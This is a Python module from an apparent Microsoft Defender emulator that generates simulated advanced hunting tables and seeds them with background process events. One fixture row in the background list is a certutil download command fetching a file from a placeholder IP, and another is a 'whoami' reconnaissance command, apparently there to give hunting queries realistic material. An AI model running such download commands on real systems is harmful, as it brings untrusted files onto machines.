"""The advanced hunting tables the emulator derives from its world, one set per tenant.

Columns are a subset of each table's documented schema, with the documented names and types
(https://learn.microsoft.com/defender-xdr/advanced-hunting-alertinfo-table, -alertevidence-table,
-deviceinfo-table, -deviceprocessevents-table):

- ``AlertInfo``: one row per alert (its current version), ``Timestamp`` = its creation time.
- ``AlertEvidence``: one row per evidence item of an alert, plus the device it is about.
- ``DeviceInfo``: one row per machine, ``Timestamp`` = its last report.
- ``DeviceProcessEvents``: every alert's file evidence as the process that raised it, plus a steady
  background of ordinary process starts per machine (``process_events_per_machine`` of them, made once from a
  seed of the tenant and machine and spread over the week before the tenant was first hunted in, so the same
  query gives the same rows run after run and new activity adds rows).

Every table has ``Timestamp``; the request's ``Timespan`` is applied to it before the query runs.
"""

from __future__ import annotations

import hashlib
import json
import random
from datetime import datetime, timedelta
from typing import Any

from emulator.defender.store import Alert, Machine, TenantData
from emulator.graph.kql_eval import Table

_S, _D, _I = "String", "DateTime", "Int64"
ALERT_INFO = {"Timestamp": _D, "AlertId": _S, "Title": _S, "Category": _S, "Severity": _S, "ServiceSource": _S,
              "DetectionSource": _S, "AttackTechniques": _S}  # fmt: skip
ALERT_EVIDENCE = {"Timestamp": _D, "AlertId": _S, "Title": _S, "Categories": _S, "AttackTechniques": _S,
                  "ServiceSource": _S, "DetectionSource": _S, "EntityType": _S, "EvidenceRole": _S, "FileName": _S,
                  "FolderPath": _S, "SHA1": _S, "SHA256": _S, "RemoteIP": _S, "AccountName": _S, "AccountDomain": _S,
                  "DeviceId": _S, "DeviceName": _S}  # fmt: skip
DEVICE_INFO = {"Timestamp": _D, "DeviceId": _S, "DeviceName": _S, "OSPlatform": _S, "OSBuild": _I, "OSVersion": _S,
               "PublicIP": _S, "MachineGroup": _S, "OnboardingStatus": _S, "DeviceType": _S}  # fmt: skip
DEVICE_PROCESS_EVENTS = {"Timestamp": _D, "DeviceId": _S, "DeviceName": _S, "ActionType": _S, "FileName": _S,
                         "FolderPath": _S, "SHA1": _S, "SHA256": _S, "ProcessId": _I, "ProcessCommandLine": _S,
                         "AccountName": _S, "AccountDomain": _S, "InitiatingProcessFileName": _S,
                         "InitiatingProcessCommandLine": _S, "ReportId": _I}  # fmt: skip
_DETECTION_SOURCES = {"WindowsDefenderAtp": "EDR", "WindowsDefenderAv": "Antivirus", "CustomerTI": "Custom TI"}
_SEVERITY = {"Informational": "Informational", "Low": "Low", "Medium": "Medium", "High": "High"}
# (file, folder, command line, parent): what a workstation starts in an ordinary week.
_BACKGROUND = (
    ("svchost.exe", "C:\\Windows\\System32", "svchost.exe -k netsvcs -p", "services.exe"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", "chrome.exe --type=renderer", "explorer.exe"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe -NoProfile -File sync.ps1",
     "explorer.exe"),
    ("cmd.exe", "C:\\Windows\\System32", "cmd.exe /c whoami", "powershell.exe"),
    ("excel.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "EXCEL.EXE /dde", "explorer.exe"),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", "msedge.exe", "explorer.exe"),
    ("rundll32.exe", "C:\\Windows\\System32", "rundll32.exe shell32.dll,Control_RunDLL", "explorer.exe"),
    ("certutil.exe", "C:\\Windows\\System32", "certutil.exe -urlcache -f http://203.0.113.7/a.txt a.txt", "cmd.exe"),
)  # fmt: skip
_WEEK = timedelta(days=7)


def _hex(seed: str, length: int) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:length]


def _techniques(alert: Alert) -> str:
    return json.dumps(list(alert["mitreTechniques"]))


def alert_info(data: TenantData) -> Table:
    rows = [
        {"Timestamp": a["alertCreationTime"], "AlertId": a["id"], "Title": a["title"], "Category": a["category"],
         "Severity": _SEVERITY.get(a["severity"], a["severity"]), "ServiceSource": "Microsoft Defender for Endpoint",
         "DetectionSource": _DETECTION_SOURCES.get(a["detectionSource"], a["detectionSource"]),
         "AttackTechniques": _techniques(a)}
        for a in data.alerts.values()
    ]  # fmt: skip
    return Table("AlertInfo", ALERT_INFO, rows)


def alert_evidence(data: TenantData) -> Table:
    rows: list[dict[str, Any]] = []
    for alert in data.alerts.values():
        machine = data.machine(alert["machineId"])
        source = _DETECTION_SOURCES.get(alert["detectionSource"], alert["detectionSource"])
        base = {"Timestamp": alert["alertCreationTime"], "AlertId": alert["id"], "Title": alert["title"],
                "Categories": json.dumps([alert["category"]]), "AttackTechniques": _techniques(alert),
                "ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": source}  # fmt: skip
        empty = dict.fromkeys(ALERT_EVIDENCE)
        if machine is not None:
            device = {"EntityType": "Machine", "EvidenceRole": "Impacted", "DeviceId": machine["id"],
                      "DeviceName": machine["computerDnsName"]}  # fmt: skip
            rows.append({**empty, **base, **device})
        for item in alert["evidence"]:
            rows.append({**empty, **base, **_evidence(item)})
    return Table("AlertEvidence", ALERT_EVIDENCE, rows)


def _evidence(item: dict[str, Any]) -> dict[str, Any]:
    kind = item["entityType"]
    if kind == "File":
        return {"EntityType": "File", "EvidenceRole": "Impacted", "FileName": item["fileName"],
                "FolderPath": item["filePath"], "SHA1": item["sha1"], "SHA256": item["sha256"]}  # fmt: skip
    if kind == "User":
        return {"EntityType": "User", "EvidenceRole": "Related", "AccountName": item["accountName"],
                "AccountDomain": item["domainName"]}  # fmt: skip
    return {"EntityType": "Ip", "EvidenceRole": "Related", "RemoteIP": item["ipAddress"]}


def device_info(data: TenantData) -> Table:
    rows = [
        {"Timestamp": m["lastSeen"], "DeviceId": m["id"], "DeviceName": m["computerDnsName"],
         "OSPlatform": m["osPlatform"], "OSBuild": m["osBuild"], "OSVersion": m["version"],
         "PublicIP": m["lastExternalIpAddress"], "MachineGroup": m["rbacGroupName"] or "UnassignedGroup",
         "OnboardingStatus": m["onboardingStatus"],
         "DeviceType": "Server" if "Server" in str(m["osPlatform"]) else "Workstation"}
        for m in data.machines
    ]  # fmt: skip
    return Table("DeviceInfo", DEVICE_INFO, rows)


def background_processes(tenant_id: str, machine: Machine, per_machine: int, anchor: datetime) -> list[dict[str, Any]]:
    """The machine's ordinary week: the same rows for the same tenant, machine, count and anchor."""
    rng = random.Random(f"{tenant_id}:{machine['id']}:processes")
    user = rng.choice(("alice", "bob", "svc-backup"))
    rows = []
    for index in range(per_machine):
        file_name, folder, command, parent = rng.choice(_BACKGROUND)
        at = anchor - _WEEK + timedelta(seconds=rng.uniform(0, _WEEK.total_seconds()))
        seed = f"{tenant_id}:{machine['id']}:{index}"
        rows.append({
            "Timestamp": at, "DeviceId": machine["id"], "DeviceName": machine["computerDnsName"],
            "ActionType": "ProcessCreated", "FileName": file_name, "FolderPath": f"{folder}\\{file_name}",
            "SHA1": _hex(seed + "1", 40), "SHA256": _hex(seed + "256", 64), "ProcessId": rng.randint(1000, 65_000),
            "ProcessCommandLine": command, "AccountName": user, "AccountDomain": "CORP",
            "InitiatingProcessFileName": parent, "InitiatingProcessCommandLine": parent, "ReportId": index + 1,
        })  # fmt: skip
    return rows


def alert_processes(data: TenantData) -> list[dict[str, Any]]:
    """The process behind each alert's file evidence, at the alert's first event."""
    rows: list[dict[str, Any]] = []
    for alert in data.alerts.values():
        machine = data.machine(alert["machineId"])
        for number, item in enumerate(alert["evidence"]):
            if item["entityType"] != "File" or machine is None:
                continue
            parent = "powershell.exe" if str(item["fileName"]).endswith(".ps1") else "explorer.exe"
            rows.append({
                "Timestamp": alert["firstEventTime"], "DeviceId": machine["id"],
                "DeviceName": machine["computerDnsName"], "ActionType": "ProcessCreated", "FileName": item["fileName"],
                "FolderPath": f"{item['filePath']}\\{item['fileName']}", "SHA1": item["sha1"], "SHA256": item["sha256"],
                "ProcessId": 4000 + number, "ProcessCommandLine": f"{item['fileName']} /run",
                "AccountName": alert["relatedUser"]["userName"], "AccountDomain": alert["relatedUser"]["domainName"],
                "InitiatingProcessFileName": parent, "InitiatingProcessCommandLine": parent,
                "ReportId": 10_000 + len(rows),
            })  # fmt: skip
    return rows
